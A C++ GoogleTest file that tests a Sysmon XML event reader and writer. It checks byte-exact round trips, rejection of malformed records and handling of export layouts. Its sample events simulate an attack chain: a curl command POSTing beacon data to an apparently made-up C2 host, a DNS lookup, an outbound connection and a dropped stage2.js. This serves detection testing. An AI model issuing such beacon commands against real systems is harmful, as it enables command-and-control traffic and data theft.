// sysmon-xml against hand-written samples (tests/telemetry/data/sysmon_*.xml, typed from FIDELITY.md §3's field
// lists): each sample reads to the event below, and that event writes back to the sample byte for byte.
#include <gtest/gtest.h>

#include <algorithm>

#include "event_diff.hpp"
#include "format_samples.hpp"
#include "random_events.hpp"
#include "telemetry/format.hpp"
#include "test_files.hpp"
#include "windows_event_samples.hpp"

namespace sclab::telemetry {
namespace {

using testing::format_named;
using testing::read_events;
using testing::replaced;
using testing::sample_path;
using testing::write_events;

const format_info& sysmon() { return format_named("sysmon-xml"); }

const std::string curl_guid = "{3f1a6c2e-d5a8-63be-2401-000000000a00}";
const std::string curl_image = "C:\\Windows\\System32\\curl.exe";
const std::string alice = "CORP\\alice";

void acting_process(event& e, std::string guid, std::uint64_t pid, std::string image) {
    e.user = alice;
    e.process.guid = std::move(guid);
    e.process.pid = pid;
    e.process.image = std::move(image);
    e.process.user = alice;
}

void sysmon_service(event& e, std::string thread_id) {
    e.extra.emplace_back("System.Execution.ProcessID", "1888");
    e.extra.emplace_back("System.Execution.ThreadID", std::move(thread_id));
}

event eid1_curl_start() {
    event e;
    e.kind = event_kind::process_creation;
    e.time = 1673450984716093100;  // TimeCreated 2023-01-11T15:29:44.7160931Z
    e.host = "WS01.corp.example";
    e.record_id = "9382";
    acting_process(e, curl_guid, 6140, curl_image);
    process_info& p = e.process;
    p.creation_time = 1673450984713000000;  // UtcTime 2023-01-11 15:29:44.713
    p.file_version = "8.0.1";
    p.description = "The curl executable";
    p.product = "The curl executable";
    p.company = "curl, https://curl.se/";
    p.original_file_name = "curl.exe";
    p.command_line = R"(curl.exe -s -X POST "https://beacon.argustest.workers.dev/api" -d "id=7&t=<n>")";
    p.current_directory = "C:\\Users\\alice\\";
    p.logon_guid = "{3f1a6c2e-0f21-63be-5b3c-0b0000000000}";
    p.logon_id = "0xb3c5b";
    p.terminal_session_id = 1;
    p.integrity_level = "Medium";
    p.sha1 = "0D6F4A1F1B8B2B45F5E9C3E1F36D1A2B3C4D5E6F";
    p.md5 = "5C7F6B2E8A4D3C1B0A9F8E7D6C5B4A39";
    p.sha256 = "2B8B815229AA8A61E483FB4BA0588B8B6C491890A2BE6A5C8F0F3A1E2D4C6B8A";
    p.imphash = "6B2D2D2E3D0E4C1F9A8B7C6D5E4F3A2B";
    e.parent.guid = "{3f1a6c2e-d590-63be-2301-000000000a00}";
    e.parent.pid = 4312;
    e.parent.image = "C:\\Windows\\System32\\cmd.exe";
    e.parent.command_line = "\"C:\\Windows\\system32\\cmd.exe\" ";
    e.parent.user = alice;
    sysmon_service(e, "2956");
    return e;
}

event eid3_curl_connection() {
    event e;
    e.kind = event_kind::network_connection;
    e.time = 1673450985832287400;  // 2023-01-11T15:29:45.8322874Z
    e.host = "WS01.corp.example";
    e.record_id = "9386";
    acting_process(e, curl_guid, 6140, curl_image);
    network_info& n = e.network;
    n.transport = "tcp";
    n.direction = "outbound";
    n.source = {.ip = "10.20.0.15", .port = 50312, .hostname = "WS01.corp.example", .port_name = "-"};
    // Realistic: Cloudflare anycast has no PTR name, so DestinationHostname is "-".
    n.destination = {.ip = "104.21.48.17", .port = 443, .hostname = "-", .port_name = "https"};
    sysmon_service(e, "3104");
    e.extra.emplace_back("EventData.RuleName", "technique_id=T1071,technique_name=Web Protocols");
    // The connection happened a second before Sysmon logged it: UtcTime is kept as written.
    e.extra.emplace_back("EventData.UtcTime", "2023-01-11 15:29:44.794");
    return e;
}

event eid11_stage2_file() {
    event e;
    e.kind = event_kind::file_creation;
    e.time = 1673451002117123400;  // 2023-01-11T15:30:02.1171234Z; UtcTime .117 says the same
    e.host = "WS01.corp.example";
    e.record_id = "9391";
    acting_process(e, "{3f1a6c2e-d610-63be-2801-000000000a00}", 7312,
                   "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
    e.file.target_filename = "C:\\Users\\alice\\AppData\\Local\\Temp\\stage2.js";
    e.file.creation_time = 1673451002116000000;
    sysmon_service(e, "2956");
    return e;
}

std::vector<event> eid22_queries() {
    event smartscreen;
    smartscreen.kind = event_kind::dns_query;
    smartscreen.time = 1673450984770231800;  // 2023-01-11T15:29:44.7702318Z
    smartscreen.host = "WS01.corp.example";
    smartscreen.record_id = "9384";
    acting_process(smartscreen, "{3f1a6c2e-cf01-63be-1c00-000000000a00}", 5012,
                   "C:\\Windows\\System32\\smartscreen.exe");
    smartscreen.dns.query_name = "checkappexec.microsoft.com";
    smartscreen.dns.query_status = "0";
    smartscreen.dns.query_results = "type:  5 wd-prod-ss.trafficmanager.net;::ffff:40.78.63.86;";
    sysmon_service(smartscreen, "3408");
    smartscreen.extra.emplace_back("EventData.UtcTime", "2023-01-11 15:29:44.768");

    event beacon;
    beacon.kind = event_kind::dns_query;
    beacon.time = 1673450984779881200;  // 2023-01-11T15:29:44.7798812Z
    beacon.host = "WS01.corp.example";
    beacon.record_id = "9385";
    acting_process(beacon, curl_guid, 6140, curl_image);
    beacon.dns.query_name = "beacon.argustest.workers.dev";
    beacon.dns.query_status = "0";
    beacon.dns.query_results = "::ffff:104.21.48.17;::ffff:172.67.161.40;";
    sysmon_service(beacon, "3408");
    return {smartscreen, beacon};
}

void expect_events(const std::vector<event>& expected, const std::vector<event>& got) {
    ASSERT_EQ(expected.size(), got.size());
    for (std::size_t i = 0; i < got.size(); ++i)
        EXPECT_EQ(expected[i], got[i]) << "event " << i << ":\n" << testing::diff_events(expected[i], got[i]);
}

struct golden_sample {
    std::string file;
    std::vector<event> events;
};

std::vector<golden_sample> golden_samples() {
    return {{"sysmon_eid1.xml", {eid1_curl_start()}},
            {"sysmon_eid3.xml", {eid3_curl_connection()}},
            {"sysmon_eid11.xml", {eid11_stage2_file()}},
            {"sysmon_eid22.xml", eid22_queries()}};
}

TEST(sysmon_xml, reads_every_golden_sample) {
    for (const golden_sample& s : golden_samples()) {
        SCOPED_TRACE(s.file);
        expect_events(s.events, read_events(sysmon(), sample_path(s.file)));
    }
}

TEST(sysmon_xml, writes_every_golden_sample_byte_for_byte) {
    for (const golden_sample& s : golden_samples())
        EXPECT_EQ(testing::read_file(sample_path(s.file)), write_events(sysmon(), s.events)) << s.file;
}

TEST(sysmon_xml, spot_checks_of_the_fields_detections_use) {
    const event start = read_events(sysmon(), sample_path("sysmon_eid1.xml")).at(0);
    EXPECT_EQ(start.process.command_line,
              R"(curl.exe -s -X POST "https://beacon.argustest.workers.dev/api" -d "id=7&t=<n>")");
    EXPECT_EQ(start.parent.image, "C:\\Windows\\System32\\cmd.exe");
    EXPECT_EQ(start.process.sha256, "2B8B815229AA8A61E483FB4BA0588B8B6C491890A2BE6A5C8F0F3A1E2D4C6B8A");

    const event connection = read_events(sysmon(), sample_path("sysmon_eid3.xml")).at(0);
    EXPECT_EQ(connection.network.destination.hostname, "-");  // the PTR name, not the requested name
    EXPECT_EQ(connection.network.destination.port, 443);
    EXPECT_EQ(connection.process.command_line, "");  // EID 3 has no CommandLine (FIDELITY.md §1)

    const auto queries = read_events(sysmon(), sample_path("sysmon_eid22.xml"));
    ASSERT_EQ(queries.size(), 2u);
    EXPECT_EQ(queries[0].dns.query_results, "type:  5 wd-prod-ss.trafficmanager.net;::ffff:40.78.63.86;");
    EXPECT_EQ(queries[1].dns.query_name, "beacon.argustest.workers.dev");
}

TEST(sysmon_xml, reads_a_windows_export_with_double_quotes_and_a_newer_schema_field) {
    const auto got = read_events(sysmon(), sample_path("sysmon_eid3_windows_export.xml"));
    ASSERT_EQ(got.size(), 1u);
    const event& e = got[0];
    EXPECT_EQ(e.kind, event_kind::network_connection);
    EXPECT_EQ(e.time, 1673451070000000100);  // 2023-01-11T15:31:10.000000100Z
    EXPECT_EQ(e.network.source.ip, "fe80:0:0:0:1c2b:3d4e:5f60:7a8b");
    EXPECT_EQ(e.network.destination.ip, "2606:4700:3031:0:0:0:6815:3011");
    EXPECT_EQ(e.record_id, "9400");
    EXPECT_EQ(e.extra_value("EventData.ProcessTrustLevel"), "Signed");
    EXPECT_EQ(e.extra_value("EventData.UtcTime"), "");  // equal to TimeCreated's milliseconds

    // Written in the Splunk rendering and read again, nothing changes, the unknown field included.
    testing::temp_dir dir;
    testing::write_file(dir.path("again.xml"), write_events(sysmon(), got));
    const std::string again = testing::read_file(dir.path("again.xml"));
    EXPECT_NE(again.find("<Data Name='ProcessTrustLevel'>Signed</Data></EventData>"), std::string::npos) << again;
    expect_events(got, read_events(sysmon(), dir.path("again.xml")));
}

TEST(sysmon_xml, derives_ipv6_and_initiated_and_writes_dash_for_unknown_names) {
    event e = eid3_curl_connection();
    e.extra.clear();
    e.network.direction = "inbound";
    e.network.source.ip = "::1";
    e.network.destination.hostname = "";
    e.network.source.port_name = "";
    const std::string line = write_events(sysmon(), {e});
    EXPECT_NE(line.find("<Data Name='Initiated'>false</Data><Data Name='SourceIsIpv6'>true</Data>"), std::string::npos);
    EXPECT_NE(line.find("<Data Name='DestinationIsIpv6'>false</Data>"), std::string::npos);
    EXPECT_NE(line.find("<Data Name='DestinationHostname'>-</Data>"), std::string::npos);
    EXPECT_NE(line.find("<Data Name='SourcePortName'>-</Data>"), std::string::npos);
    EXPECT_NE(line.find("<Data Name='RuleName'>-</Data><Data Name='UtcTime'>2023-01-11 15:29:45.832</Data>"),
              std::string::npos);
    EXPECT_NE(line.find("<Execution ProcessID='0' ThreadID='0'/>"), std::string::npos);
    EXPECT_NE(line.find("<Security UserID='S-1-5-18'/>"), std::string::npos);
    EXPECT_EQ(sysmon().retain(e).network.destination.hostname, "-");
}

TEST(sysmon_xml, keeps_its_own_extras_and_drops_other_vendors) {
    seeded_random rng(21);
    testing::temp_dir dir;
    std::vector<event> written;
    for (event_kind kind : {event_kind::process_creation, event_kind::network_connection, event_kind::file_creation,
                            event_kind::dns_query}) {
        for (int i = 0; i < 10; ++i) {
            event e = testing::random_event(kind, rng, {.style = testing::text_style::rich, .with_extras = true});
            e.set_extra("System.Execution.ThreadID", std::to_string(100 + i));
            e.set_extra("System.Security.UserID", "S-1-5-21-1-2-3-1001");
            e.set_extra("System.Correlation.ActivityID", "{8f2d5a10-25b6-0001-9c3e-2d8fb625d901}");
            e.set_extra("EventData.RuleName", "technique_id=T1105,technique_name=Ingress Tool Transfer");
            e.set_extra("EventData.UtcTime", "2023-01-11 15:29:44.001");
            e.set_extra("EventData.FutureField", "a <new> & \"odd\" value");
            e.set_extra("ReportId", "12345");  // Defender's: no place in a Sysmon record
            written.push_back(e);
        }
    }
    testing::write_file(dir.path("x.xml"), write_events(sysmon(), written));
    const auto got = read_events(sysmon(), dir.path("x.xml"));
    ASSERT_EQ(got.size(), written.size());
    for (std::size_t i = 0; i < got.size(); ++i) {
        const event expected = sysmon().retain(written[i]);
        ASSERT_EQ(expected, got[i]) << testing::diff_events(expected, got[i]);
        EXPECT_EQ(got[i].extra_value("System.Security.UserID"), "S-1-5-21-1-2-3-1001");
        EXPECT_EQ(got[i].extra_value("EventData.FutureField"), "a <new> & \"odd\" value");
        EXPECT_EQ(got[i].extra_value("ReportId"), "");
        // UtcTime is the process start in EID 1, so only the other EIDs keep a differing UtcTime text.
        EXPECT_EQ(got[i].extra_value("EventData.UtcTime"),
                  written[i].kind == event_kind::process_creation ? "" : "2023-01-11 15:29:44.001");
    }
}

TEST(sysmon_xml, hashes_read_in_any_order_and_subset) {
    std::string line = testing::read_file(sample_path("sysmon_eid1.xml"));
    const std::string hashes =
        line.substr(line.find("SHA1="), line.find("</Data>", line.find("SHA1=")) - line.find("SHA1="));
    line.replace(line.find(hashes), hashes.size(), "imphash=AB12,SHA256=CD34");
    testing::temp_dir dir;
    testing::write_file(dir.path("h.xml"), line);
    const event e = read_events(sysmon(), dir.path("h.xml")).at(0);
    EXPECT_EQ(e.process.imphash, "AB12");
    EXPECT_EQ(e.process.sha256, "CD34");
    EXPECT_EQ(e.process.sha1, "");
    EXPECT_EQ(e.process.md5, "");
}

// ---- malformed records -------------------------------------------------------------------------------

TEST(sysmon_xml, malformed_records_give_a_reason) {
    std::string good = testing::read_file(sample_path("sysmon_eid3.xml"));
    good.pop_back();  // the newline
    std::string eid1 = testing::read_file(sample_path("sysmon_eid1.xml"));
    eid1.pop_back();
    const std::vector<testing::malformed_case> cases = {
        {"hello world", "not a Windows event"},
        {"<Eventlog/>", "not a Windows event"},  // (an empty <Events/> wrapper is an empty export)
        {replaced(good, "<EventID>3</EventID>", "<EventID>5</EventID>"), "EventID 5 is not one sysmon-xml carries"},
        {replaced(good, "Microsoft-Windows-Sysmon'", "Microsoft-Windows-PowerShell'"), "not a Sysmon event"},
        {replaced(good, "<Data Name='Image'>C:\\Windows\\System32\\curl.exe</Data>", ""), "missing Data 'Image'"},
        {replaced(good, "2023-01-11T15:29:45.8322874Z", "2023-01-11 15:29:45"), "bad TimeCreated SystemTime"},
        {replaced(good, "<TimeCreated SystemTime='2023-01-11T15:29:45.8322874Z'/>", ""), "no <TimeCreated>"},
        {replaced(good, "2023-01-11 15:29:44.794", "2023-13-11 15:29:44.794"), "'UtcTime' is not a Sysmon time"},
        {replaced(good, ">6140<", ">61x0<"), "'ProcessId' is not a number"},
        {replaced(good, ">443<", ">70000<"), "'DestinationPort' is not a number up to 65535"},
        {replaced(good, "<EventRecordID>9386", "<EventRecordID>-1"), "bad EventRecordID"},
        {replaced(good, "ProcessID='1888'", "ProcessID='18 88'"), "bad Execution ProcessID"},
        {replaced(good, ">true<", ">yes<"), "'Initiated' is not true or false"},
        {replaced(good, "WS01.corp.example</Data>", "WS01&corp;</Data>"), "bad character reference"},
        {replaced(good, "<Data Name='Protocol'>", "<Data Name='User'>x</Data><Data Name='Protocol'>"),
         "'User' appears twice"},
        {replaced(good, "</EventData>", "<Value>1</Value></EventData>"), "only <Data Name='...'> belongs there"},
        {replaced(good, "<Data Name='Protocol'>", "<Data>"), "<Data> without a Name"},
        {replaced(good, "EventData>", "UserData>"), "not UserData"},
        {replaced(good, "Name='Protocol'", "Name=Protocol"), "is not quoted"},
        {replaced(good, "<EventID>3</EventID>", ""), "no <EventID>"},
        {good.substr(0, good.find("<Data Name='Protocol'>") + 24), "truncated event"},
        {good.substr(0, good.find("Name='Protocol'") + 8), "truncated event"},
        {good + "<Event>", "truncated event"},  // the first event reads; the second is cut
        {replaced(eid1, "SHA1=0D6F", "SHA1:0D6F"), "not ALGORITHM=value"},
        {replaced(eid1, "MD5=", "CRC32="), "unknown algorithm 'CRC32'"},
    };
    testing::expect_rejections(sysmon(), cases);
}

TEST(sysmon_xml, strict_stops_at_the_first_bad_line_and_lenient_skips_it) {
    const std::string good = testing::read_file(sample_path("sysmon_eid3.xml"));
    const std::string bad = replaced(good, "<EventID>3</EventID>", "<EventID>7</EventID>");
    testing::temp_dir dir;
    const std::string path = dir.path("mixed.xml");
    // good, blank, bad, good, and a last line cut off without its newline
    testing::write_file(path, good + "\n" + bad + good + good.substr(0, 100));
    try {
        read_events(sysmon(), path);
        FAIL() << "strict mode took a bad line";
    } catch (const input_error& e) {
        EXPECT_EQ(e.line(), 3u);
        EXPECT_NE(std::string(e.what()).find("mixed.xml:3:"), std::string::npos) << e.what();
    }
    auto reader = sysmon().open_reader(path, read_options{.strict = false});
    event e;
    int n = 0;
    while (reader->next(e)) ++n;
    EXPECT_EQ(n, 2);
    ASSERT_EQ(reader->problems().skipped(), 2u);
    EXPECT_EQ(reader->problems().kept()[0].line(), 3u);
    EXPECT_NE(reader->problems().kept()[0].reason().find("EventID 7"), std::string::npos);
    EXPECT_EQ(reader->problems().kept()[1].line(), 5u);
    EXPECT_NE(reader->problems().kept()[1].reason().find("truncated"), std::string::npos);
}

TEST(sysmon_xml, mutated_samples_are_read_or_rejected_never_crash) {
    std::vector<std::string> lines;
    for (const char* f : {"sysmon_eid1.xml", "sysmon_eid3.xml", "sysmon_eid11.xml", "sysmon_eid22.xml",
                          "sysmon_eid3_windows_export.xml"})
        lines.push_back(testing::read_file(sample_path(f)));
    testing::expect_event_mutations_read_or_rejected(sysmon(), lines, 3000, 77);
}

// ---- real export layouts (windows_event_xml_splitter.hpp) -------------------------------------------------

TEST(sysmon_xml, reads_wevtutil_output_concatenated_on_one_line) {
    std::vector<event> expected = eid22_queries();
    expected.push_back(eid3_curl_connection());
    expect_events(expected, read_events(sysmon(), sample_path("sysmon_wevtutil_concatenated.xml")));
}

// Lines that each end with "</Event>" but hold several events: the reader's fast path takes the line whole,
// the parse fails, and the line is split again; strict mode sees no problem.
TEST(sysmon_xml, reads_several_concatenated_events_per_line_in_strict_mode) {
    const std::string line = testing::read_file(sample_path("sysmon_wevtutil_concatenated.xml"));
    testing::temp_dir dir;
    testing::write_file(dir.path("lines.xml"), line + "\r\n" + line + "\n");
    std::vector<event> expected = eid22_queries();
    expected.push_back(eid3_curl_connection());
    const std::vector<event> once = expected;
    expected.insert(expected.end(), once.begin(), once.end());
    expect_events(expected, read_events(sysmon(), dir.path("lines.xml")));
}

TEST(sysmon_xml, reads_an_event_viewer_export_with_bom_declaration_wrapper_and_crlf) {
    expect_events(eid22_queries(), read_events(sysmon(), sample_path("sysmon_event_viewer_export.xml")));
}

// The Event Viewer sample's two events repeated until the file is several times the reader's 1 MiB buffer,
// so events cross its boundary; a last event cut off names the line it starts on.
TEST(sysmon_xml, reads_a_large_pretty_printed_export_and_reports_a_cut_last_event_where_it_starts) {
    const std::string sample = testing::read_file(sample_path("sysmon_event_viewer_export.xml"));
    const std::size_t first = sample.find("  <Event"), last = sample.find("</Events>");
    const std::string pair = sample.substr(first, last - first);
    const auto pair_lines = static_cast<std::uint64_t>(std::count(pair.begin(), pair.end(), '\n'));
    const int copies = 1200;  // ~3 MiB
    std::string file = sample.substr(0, first);
    for (int i = 0; i < copies; ++i) file += pair;
    const auto head_lines = static_cast<std::uint64_t>(std::count(file.begin(), file.end(), '\n'));
    file += pair.substr(0, pair.size() / 3);
    testing::temp_dir dir;
    testing::write_file(dir.path("big.xml"), file);
    ASSERT_GT(file.size(), 3u << 20);
    try {
        read_events(sysmon(), dir.path("big.xml"));
        FAIL() << "strict mode took a cut event";
    } catch (const input_error& e) {
        EXPECT_EQ(e.line(), head_lines + 1);
        EXPECT_NE(e.reason().find("truncated event"), std::string::npos) << e.what();
    }
    const auto got = read_events(sysmon(), dir.path("big.xml"), read_options{.strict = false});
    ASSERT_EQ(got.size(), 2u * copies);
    const std::vector<event> expected = eid22_queries();
    for (std::size_t i = 0; i < got.size(); ++i)
        ASSERT_EQ(expected[i % 2], got[i]) << "event " << i << ":\n" << testing::diff_events(expected[i % 2], got[i]);
    EXPECT_EQ(pair_lines, 65u);  // the sample is what this test thinks it is
}

TEST(sysmon_xml, a_bad_pretty_printed_event_names_its_start_line_and_the_place_inside) {
    std::string file = testing::read_file(sample_path("sysmon_event_viewer_export.xml"));
    file = replaced(file, "<EventRecordID>9385</EventRecordID>", "<EventRecordID>93x5</EventRecordID>");
    testing::temp_dir dir;
    testing::write_file(dir.path("bad.xml"), file);
    try {
        read_events(sysmon(), dir.path("bad.xml"));
        FAIL() << "strict mode took a bad EventRecordID";
    } catch (const input_error& e) {
        EXPECT_EQ(e.line(), 39u);  // the second <Event>
        EXPECT_NE(e.reason().find("bad EventRecordID '93x5': not a number (line 11 of the event, column 42)"),
                  std::string::npos)
            << e.what();
    }
    const auto got = read_events(sysmon(), dir.path("bad.xml"), read_options{.strict = false});
    ASSERT_EQ(got.size(), 1u);
    EXPECT_EQ(got[0], eid22_queries()[0]);
}

}  // namespace
}  // namespace sclab::telemetry
